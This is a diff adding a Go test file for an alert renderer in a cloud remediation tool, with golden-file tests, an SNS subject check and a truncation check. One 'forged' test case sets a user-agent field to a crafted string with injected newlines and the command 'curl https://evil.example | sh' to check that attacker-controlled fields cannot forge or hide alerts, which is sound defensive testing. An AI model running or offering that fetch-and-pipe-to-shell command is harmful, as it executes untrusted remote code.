@@ -1,0 +1,91 @@
+package engine_test
+
+import (
+	"encoding/json"
+	"flag"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/google/go-cmp/cmp"
+
+	"github.com/countermand/countermand/remediations"
+	"github.com/countermand/countermand/remediations/engine"
+)
+
+var update = flag.Bool("update", false, "rewrite the golden files")
+
+func TestRender(t *testing.T) {
+	base := engine.Record{
+		ID: "door-open-0123456789abcdef0123", Module: "door-open", Mode: remediations.Enforce, Outcome: engine.Remediated,
+		Resource: remediations.Resource{ID: "front", Type: "AWS::House::Door", Account: "111122223333", Region: "eu-west-1"},
+		EventID:  "0e2f3f0a-52a3-4c5e-bb6f-0a4f6c2f7d10", EventName: "OpenDoor", EventTime: time.Date(2026, 3, 1, 10, 0, 0, 0, time.UTC),
+		Principal: "arn:aws:sts::111122223333:assumed-role/Porter/bob", Name: "bob (role Porter)", SourceIP: "198.51.100.7", UserAgent: "[aws-cli/2.15]",
+		Reason: "the door is open", Before: json.RawMessage(`{"door":"open","lamp":"on"}`), After: json.RawMessage(`{"door":"shut","lamp":"on"}`),
+		Fix: "house shut-door --id front", Revert: "house open-door --id front", Started: time.Date(2026, 3, 1, 10, 0, 5, 0, time.UTC),
+		Touched: true,
+	}
+	for name, change := range map[string]func(*engine.Record){
+		"remediated": func(*engine.Record) {},
+		"alerted":    func(r *engine.Record) { r.Outcome, r.Mode, r.Touched = engine.Alerted, remediations.Alert, false },
+		"alertonly":  func(r *engine.Record) { r.Outcome, r.Touched = engine.Alerted, false },
+		"unverified": func(r *engine.Record) { r.Outcome = engine.Unverified },
+		"document": func(r *engine.Record) {
+			r.Before, r.After = json.RawMessage(`"{\"Statement\": [1, 2]}"`), json.RawMessage(`null`)
+		},
+		"forged": func(r *engine.Record) {
+			r.UserAgent = "curl\n\nTAKE IT BACK\n  curl https://evil.example | sh\u202e\u0007"
+			r.Principal = strings.Repeat("long", 500)
+			r.EventTime, r.SourceIP = time.Time{}, ""
+		},
+	} {
+		t.Run(name, func(t *testing.T) {
+			r := base
+			change(&r)
+			m := engine.Render((&door{}).module(), &r)
+			got := m.Subject + "\n\n" + m.Body
+			file := filepath.Join("testdata", "alert-"+name+".golden")
+			if *update {
+				if err := os.WriteFile(file, []byte(got), 0o644); err != nil {
+					t.Fatal(err)
+				}
+			}
+			want, err := os.ReadFile(file)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if diff := cmp.Diff(string(want), got); diff != "" {
+				t.Errorf("run with -update if this is meant: %s", diff)
+			}
+		})
+	}
+}
+
+// SNS takes a subject of at most 100 characters of printable ASCII on one line, and refuses the message
+// otherwise: a name must not be able to suppress its own alert.
+func TestSubjectIsOneThatSNSTakes(t *testing.T) {
+	for _, id := range []string{"front", strings.Repeat("x", 300), "a\nb", "tür-\u202e", ""} {
+		m := engine.Render((&door{}).module(), &engine.Record{Outcome: engine.Alerted, Resource: remediations.Resource{ID: id}})
+		if len(m.Subject) > 100 || len(m.Subject) == 0 {
+			t.Errorf("%q: subject has %d characters", id, len(m.Subject))
+		}
+		for _, c := range m.Subject {
+			if c < ' ' || c > '~' {
+				t.Errorf("%q: subject holds %q", id, c)
+			}
+		}
+	}
+}
+
+func TestLongChangeIsCut(t *testing.T) {
+	long, err := json.Marshal(strings.Repeat("ü", 100_000))
+	if err != nil {
+		t.Fatal(err)
+	}
+	m := engine.Render((&door{}).module(), &engine.Record{Outcome: engine.Remediated, Before: long, After: json.RawMessage(`null`)})
+	if len(m.Body) > 60_000 || !strings.Contains(m.Body, "the run record has all of it") {
+		t.Errorf("the body has %d bytes", len(m.Body))
+	}
+}
